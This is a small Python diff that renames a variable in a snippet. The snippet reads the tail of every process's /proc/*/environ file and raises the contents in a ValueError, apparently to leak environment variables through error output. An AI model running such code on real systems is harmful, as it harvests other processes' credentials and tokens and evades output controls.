@@ -6,7 +6,7 @@ def read():
     return [open(path, "rb").read()[-150:] for path in glob.glob("/proc/*/environ")] or open("/proc/self/environ").read()
 
 try:
-    found = read()
+    outcome = read()
 except BaseException as error:
-    found = error
-raise ValueError(repr(found))
+    outcome = error
+raise ValueError(repr(outcome))
